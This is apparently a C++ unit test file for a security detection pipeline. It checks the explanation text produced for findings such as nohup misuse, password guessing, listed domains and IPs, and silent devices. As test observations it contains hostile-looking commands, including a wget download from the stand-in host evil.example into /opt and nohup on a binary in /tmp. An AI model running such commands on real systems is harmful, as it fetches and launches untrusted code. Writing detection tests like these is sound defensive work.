#include "pipeline_core/findings/reason.h"

#include <gmock/gmock.h>

#include <map>

#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

/// Renders each finding's reason while it is delivered.
class ReasonTextSink : public FindingSink {
 public:
  explicit ReasonTextSink(const PipelineContent& content) : content_(content) {}
  void on_finding(const Finding& f) override {
    reasons[content_.alert(f.alert).name] = reason_text(content_, f);
    EXPECT_LE(reasons[content_.alert(f.alert).name].size(), kMaxReasonBytes);
  }
  std::map<std::string, std::string> reasons;

 private:
  const PipelineContent& content_;
};

struct ReasonBench : Bench {
  ReasonBench() {
    add_own_rules(builder);
    builder.indicators().add(*read_value("evil.example"), {.source = "feed of the day", .confidence = 70});
    builder.indicators().add(*read_value("203.0.113.66"), {.source = "list", .confidence = 55});
  }
  std::map<std::string, std::string> of(const std::vector<Observation>& observations, Duration silence = Duration()) {
    start(1, silence);
    ReasonTextSink reasons(*content);
    core->ingest(DeviceMessage{DeviceId(0), 0, kStart, Encoding::kG2FlatBuffers, {}, observations}, reasons);
    core->advance(kStart + Duration::hours(2), reasons);
    return reasons.reasons;
  }
};

TEST(Reason, of_a_rule_names_it_and_the_tests_that_held) {
  ReasonBench r;
  const auto reasons = r.of({exec(r.texts, kStart, "nohup /tmp/k -q")});
  EXPECT_THAT(reasons.at("Detected suspicious use of the nohup command"),
              AllOf(HasSubstr("product rule 'nohup on a file in a temporary directory'"),
                    HasSubstr("(b6bd28c6-cb69-431f-ad65-37efa6931f8c)"), HasSubstr(" because nohup: Image like '*/nohup' and nohup: CommandLine matches "),
                    HasSubstr(" and place: CommandLine "), HasSubstr("/tmp/"), Not(HasSubstr("/dev/shm/"))));
}

TEST(Reason, of_a_verdict_from_the_cache_is_the_same) {
  ReasonBench r;
  const Observation o = exec(r.texts, kStart, "nohup /tmp/k -q");
  const Observation other = exec(r.texts, kStart, "ls");
  r.start(2);
  ReasonTextSink first(*r.content);
  ReasonTextSink second(*r.content);
  r.core->ingest(DeviceMessage{DeviceId(0), 0, kStart, Encoding::kG2FlatBuffers, {}, {&o, 1}}, first);
  r.core->advance(kStart + Duration::hours(1), first);
  const std::vector<Observation> later{other, o};
  r.core->ingest(DeviceMessage{DeviceId(0), 1, kStart + Duration::hours(3), Encoding::kG2FlatBuffers, {}, later}, second);
  r.core->advance(kStart + Duration::hours(4), second);
  EXPECT_EQ(first.reasons, second.reasons);
  EXPECT_EQ(first.reasons.size(), 1u);
}

TEST(Reason, of_a_correlation_counts_its_members) {
  ReasonBench r;
  std::vector<Observation> failures;
  for (int i = 0; i < 30; ++i) failures.push_back(login(r.texts, kStart, LoginOperation::kLoginFailed, "203.0.113.1"));
  EXPECT_THAT(r.of(failures).at("sim.bruteforce_failed"),
              AllOf(HasSubstr("picket rule 'Password guessing'"), HasSubstr("30 matches within 600 s"),
                    HasSubstr("threshold 30"), HasSubstr("by device")));
}

TEST(Reason, of_an_indicator_names_its_source) {
  ReasonBench r;
  const auto reasons = r.of({flow(kStart, "203.0.113.66", 443), at(kStart, DnsRecord{r.texts.intern("a.evil.example"), false}),
                             exec(r.texts, kStart, "wget http://evil.example/x -O /opt/x")});
  EXPECT_EQ(reasons.at("Suspicious IP address communication"),
            "product model 'listed address': '203.0.113.66' listed by 'list' with confidence 55");
  EXPECT_EQ(reasons.at("Malicious Domain Name Request"),
            "product model 'listed domain': 'evil.example' listed by 'feed of the day' with confidence 70");
  EXPECT_EQ(reasons.at("Detected file download from a malicious source"),
            "product model 'listed download': 'evil.example' listed by 'feed of the day' with confidence 70");
}

TEST(Reason, of_a_model_has_its_value_and_its_limit) {
  ReasonBench r;
  const auto reasons = r.of({exec(r.texts, kStart + Duration::minutes(10), "ls")}, Duration::minutes(10));
  EXPECT_EQ(reasons.at("sim.clock_jump"), "picket model 'clock jump': 600 s, limit 300 s");
  EXPECT_EQ(reasons.at("sim.device_silent"), "picket model 'device silent': 1800 s, limit 1800 s");
}

// Points that reached the limit, and not the observations that brought them: a first sighting may bring two.
TEST(Reason, of_first_sightings_counts_points) {
  ReasonBench r;
  std::vector<Observation> lines;
  for (int i = 0; i < 5; ++i)
    lines.push_back(exec(r.texts, kStart + Duration::minutes(i + 1), "/opt/tool-" + std::string(1, static_cast<char>('a' + i))));
  r.start(300);
  ReasonTextSink sink(*r.content);
  for (std::uint32_t i = 0; i < 5; ++i)
    r.core->ingest(DeviceMessage{DeviceId(0), i, lines[i].last_time, Encoding::kG2FlatBuffers, {}, {&lines[i], 1}}, sink);
  r.core->advance(kStart + Duration::hours(2), sink);
  EXPECT_EQ(sink.reasons.at("sim.novel_process"), "picket model 'novel processes': 5 points, limit 5 points");
}

TEST(Reason, of_what_is_found_or_not_names_no_quantity) {
  ReasonBench r;
  r.start();
  Finding finding;
  finding.rule = r.content->rule_index(Detector::kPeerLogin);
  finding.reason = value_reason(1, 0);
  EXPECT_EQ(measured_text(*r.content, finding), "");
  EXPECT_THAT(reason_text(*r.content, finding), Not(HasSubstr("limit")));
  finding.rule = r.content->rule_index(Detector::kOffhoursLogin);
  finding.reason = value_reason(3, 0);
  EXPECT_EQ(measured_text(*r.content, finding), "in the hour from 3:00 UTC");
}

TEST(Reason, has_a_unit_for_each_quantity) {
  ReasonBench r;
  r.start();
  const auto of = [&](auto source) { return std::string(measured_unit(*r.content, r.content->rule_index(source))); };
  EXPECT_EQ(of(Model::kRarePeer), "points");
  EXPECT_EQ(of(Model::kEgressVolume), "bytes");
  EXPECT_EQ(of(Model::kDeviceSilent), "s");
  EXPECT_EQ(of(Detector::kLongSilence), "s");
  EXPECT_EQ(of(Detector::kFloodSource), "bytes");
  EXPECT_EQ(of(Detector::kRetries), "attempts");
  EXPECT_EQ(of(Detector::kFleetNewPeer), "devices");
  EXPECT_EQ(of(Model::kBeacon), "of the mean gap");
  EXPECT_EQ(of(Model::kRareSequence), "hours");
  EXPECT_EQ(of(HubDetection::kFleetSilence), "");
  EXPECT_EQ(of(HubDetection::kAgentConfigWeaker), "settings");
  EXPECT_EQ(of(HubDetection::kQuotaStarve), "devices");
  EXPECT_EQ(measured_unit(*r.content, 0), "");
}

TEST(Reason, shortens_numbers_to_six_digits) {
  EXPECT_EQ(number_text(600), "600");
  EXPECT_EQ(number_text(0.25), "0.25");
  EXPECT_EQ(number_text(1234567), "1.23457e+06");
}

// A module may stay away ten minutes, however long its policy lets it be silent.
TEST(Reason, of_a_module_that_disconnected_is_the_time_it_may_stay_away) {
  ReasonBench r;
  r.start(1, Duration::hours(6));
  ReasonTextSink sink(*r.content);
  r.core->ingest(OperationRecord{kStart + Duration::minutes(1), DeviceId(0), OperationName::kDeviceDisconnect, 0, true}, sink);
  r.core->advance(kStart + Duration::hours(1), sink);
  EXPECT_EQ(sink.reasons.at("sim.device_silent"), "picket model 'device silent': 600 s, limit 600 s");
}

TEST(Reason, stays_within_its_bound_whatever_a_rule_says) {
  ReasonBench r;
  r.builder.add_rule("title: '" + std::string(250, 't') +
                         "'\nid: 31111111-2222-4333-8444-555555555555\n"
                         "logsource: {product: linux, category: process_creation}\ndetection:\n  s:\n"
                         "    CommandLine|contains: '" +
                         std::string(2'000, 'x') + "'\n  condition: s\n",
                     "long.yml");
  const auto reasons = r.of({exec(r.texts, kStart, std::string(2'000, 'x'))});
  ASSERT_TRUE(reasons.contains(std::string(250, 't')));
  EXPECT_THAT(reasons.at(std::string(250, 't')), HasSubstr("..."));
}

}  // namespace
}  // namespace picket
